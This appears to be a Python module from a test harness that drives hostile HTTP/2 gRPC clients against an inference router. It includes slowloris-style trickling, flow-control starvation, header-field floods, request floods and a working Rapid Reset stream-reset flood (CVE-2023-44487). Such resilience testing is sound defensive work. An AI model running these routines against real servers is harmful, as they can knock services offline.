"""Hostile clients over gRPC; each runs one round of its picture on a new connection."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from contextlib import suppress

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
import trio
from hyperframe.frame import HeadersFrame, PingFrame, RstStreamFrame

from ...kserve import kserve_pb2 as pb
from ...kserve.framing import SERVICE, Headers, frame
from .http_clients import LARGE_BODY_BYTES, LONG_TIMEOUT_S, SLOW_READ_INTERVAL_S, connect
from .plan import MODEL, RPC_CLASS, TENANT, Picture

STREAMS = 16  # of one connection
FIELDS = 400  # short ones, below the limit of 16 KiB as HPACK counts them
TRICKLE_PIECE_BYTES, TRICKLE_INTERVAL_S = 3600, 0.05
SLOW_WINDOW_BYTES = 4096
FLOOD_BATCH = 32
SENT_AHEAD = 60
RESET_BATCH = 200
LAST_STREAM = 2**30


def infer_message(text: bytes) -> bytes:
    """Return a request message with its length prefix."""
    tensor = pb.ModelInferRequest.InferInputTensor(name="text", datatype="BYTES", shape=[1])
    raw = len(text).to_bytes(4, "little") + text
    request = pb.ModelInferRequest(model_name=MODEL, inputs=[tensor], raw_input_contents=[raw])
    return frame(request.SerializeToString())


def head(method: str, name: str, timeout_s: float = 10.0, fields: Headers | None = None) -> Headers:
    """Return the header fields of a call."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/{SERVICE}/{method}"),
        (":authority", "router"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("grpc-timeout", f"{round(timeout_s * 1e3)}m"),
        ("sorreldock-class", RPC_CLASS),
        ("sorreldock-tenant", TENANT),
        ("sorreldock-request-id", name),
        *(fields or []),
    ]


class Connection:
    """The client's end of a gRPC connection; `window` is what the router may send on a stream."""

    def __init__(self, stream: trio.SocketStream, window: int = 65535) -> None:
        self.stream = stream
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.local_settings = h2.settings.Settings(
            client=True,
            initial_values={
                h2.settings.SettingCodes.ENABLE_PUSH: 0,
                h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window,
            },
        )
        self.h2.initiate_connection()
        self.acknowledges = True
        self.discards = False
        self.unacknowledged: dict[int, int] = {}
        self.open_streams = 0
        self.changed = trio.Event()
        self._lock = trio.Lock()  # both the reader and the picture write

    async def flush(self) -> None:
        """Write what h2 has queued."""
        async with self._lock:
            if data := self.h2.data_to_send():
                await self.stream.send_all(data)

    async def read(self) -> None:
        """Handle what the router sends until it closes the connection."""
        while data := bytes(await self.stream.receive_some(65536)):
            if self.discards:
                continue
            for event in self.h2.receive_data(data):
                self._handle_event(event)
            self.changed.set()
            self.changed = trio.Event()
            if self.acknowledges:
                await self.flush()
        raise trio.BrokenResourceError("closed by the router")

    def _handle_event(self, event: h2.events.Event) -> None:
        match event:
            case h2.events.DataReceived():
                number, length = event.stream_id or 0, event.flow_controlled_length or 0
                if self.acknowledges:
                    self.h2.acknowledge_received_data(length, number)
                else:
                    self.unacknowledged[number] = self.unacknowledged.get(number, 0) + length
            case h2.events.StreamEnded() | h2.events.StreamReset():
                self.open_streams -= 1
            case _:
                pass

    def open(self, fields: Headers, end_stream: bool = False) -> int:
        """Open a stream and return its number."""
        number = self.h2.get_next_available_stream_id()
        self.h2.send_headers(number, fields, end_stream=end_stream)
        self.open_streams += 1
        return number

    async def send(self, number: int, data: bytes, end_stream: bool = True) -> None:
        """Write data as flow control allows."""
        view = memoryview(data)
        while view:
            window = min(self.h2.local_flow_control_window(number), self.h2.max_outbound_frame_size)
            if window <= 0:
                await self.flush()
                await self.changed.wait()
                continue
            piece = bytes(view[:window])
            view = view[window:]
            self.h2.send_data(number, piece, end_stream=end_stream and not view)
            await self.flush()


async def trickle(connection: Connection, name: str) -> None:
    """Write a large message slowly, to its end, and read the answer."""
    number = connection.open(head("ModelInfer", name, 60.0))
    data = infer_message(b"hostile" + b"x" * LARGE_BODY_BYTES)
    for start in range(0, len(data), TRICKLE_PIECE_BYTES):
        piece = data[start : start + TRICKLE_PIECE_BYTES]
        await connection.send(number, piece, start + TRICKLE_PIECE_BYTES >= len(data))
        await trio.sleep(TRICKLE_INTERVAL_S)
    while connection.open_streams:
        await connection.changed.wait()


async def stop_half_way(connection: Connection, name: str) -> None:
    """Write half of a large message and stay."""
    number = connection.open(head("ModelInfer", name))
    data = infer_message(b"hostile" + b"x" * LARGE_BODY_BYTES)
    await connection.send(number, data[: len(data) // 2], end_stream=False)
    while connection.open_streams:
        await connection.changed.wait()


async def many_fields(connection: Connection, name: str) -> None:
    """Open streams with very many short fields, and send nothing more on them."""
    for index in range(STREAMS):
        fields = [(f"f{number}", "v") for number in range(FIELDS)]
        connection.open(head("ModelInfer", f"{name}-{index}", fields=fields))
        await connection.flush()
    while connection.open_streams > 0:
        await connection.changed.wait()


async def read_slowly(connection: Connection, name: str) -> None:
    """Read long answers slowly, in small windows."""
    connection.acknowledges = False
    number = connection.open(head("ModelStreamInfer", name))
    await connection.send(number, infer_message(b"hostile"))
    while connection.open_streams:
        await trio.sleep(SLOW_READ_INTERVAL_S)
        for stream_id, length in connection.unacknowledged.items():
            with suppress(h2.exceptions.ProtocolError):
                connection.h2.acknowledge_received_data(length, stream_id)
        connection.unacknowledged.clear()
        await connection.flush()


async def _flood(connection: Connection, name: str, method: str, timeout_s: float, long_names: bool) -> None:
    message = infer_message(b"hostile")
    number = 0
    while True:
        while connection.open_streams >= FLOOD_BATCH:
            await connection.changed.wait()
        number += 1
        label = f"{name}-{number}"
        fields = [("sorreldock-session", label + "s" * 100), ("sorreldock-prefix", label + "p" * 100)]
        stream = connection.open(head(method, label, timeout_s, fields if long_names else None))
        await connection.send(stream, message)


async def flood(connection: Connection, name: str) -> None:
    """Send small sound calls at full speed."""
    await _flood(connection, name, "ModelInfer", 10.0, False)


def reset_frames(header_block: bytes, first_stream: int, count: int) -> bytes:
    """Return frames that open streams and reset each at once (CVE-2023-44487), with a PING after each."""
    frames = bytearray()
    for number in range(first_stream, first_stream + 2 * count, 2):
        headers = HeadersFrame(number, header_block, flags=["END_HEADERS"])
        frames += headers.serialize() + RstStreamFrame(number, error_code=8).serialize()
        frames += PingFrame(0, b"12345678").serialize()
    return bytes(frames)


async def flood_unsound(connection: Connection, name: str) -> None:
    """Open streams and reset them at once, at full speed."""
    encoder = hpack.Encoder()
    fields = head("ModelInfer", name)
    connection.discards = True
    first = encoder.encode(fields)
    again = encoder.encode(fields)  # refers to the entries of the first
    await connection.stream.send_all(HeadersFrame(1, first, flags=["END_HEADERS"]).serialize())
    number = 3
    while number < LAST_STREAM:
        await connection.stream.send_all(reset_frames(again, number, RESET_BATCH))
        number += 2 * RESET_BATCH


async def flood_new_names(connection: Connection, name: str) -> None:
    """Send small calls with ever new names and long time limits at full speed."""
    await _flood(connection, name, "ModelInfer", LONG_TIMEOUT_S, True)


async def send_ahead_and_leave(connection: Connection, name: str) -> None:
    """Send many calls at once, and close the connection without reading."""
    message = infer_message(b"x" * 900)
    for number in range(SENT_AHEAD):
        stream = connection.open(head("ModelInfer", f"{name}-{number}"))
        connection.h2.send_data(stream, message, end_stream=True)
    await connection.flush()


ROUNDS: dict[Picture, Callable[[Connection, str], Awaitable[None]]] = {
    Picture.TRICKLE: trickle,
    Picture.STOP: stop_half_way,
    Picture.MANY_FIELDS: many_fields,
    Picture.SLOW_READERS: read_slowly,
    Picture.LARGE_EVENTS: read_slowly,
    Picture.FLOOD: flood,
    Picture.UNSOUND_FLOOD: flood_unsound,
    Picture.NEW_NAMES: flood_new_names,
    Picture.LEAVERS: send_ahead_and_leave,
}


async def run_round(address: str, picture: Picture, name: str) -> None:
    """Run one round of a picture on a new connection."""
    is_slow = picture in (Picture.SLOW_READERS, Picture.LARGE_EVENTS)
    async with await connect(address, picture) as stream:
        connection = Connection(stream, SLOW_WINDOW_BYTES if is_slow else 65535)
        await connection.flush()
        async with trio.open_nursery() as nursery:
            nursery.start_soon(connection.read)
            await ROUNDS[picture](connection, name)
            nursery.cancel_scope.cancel()
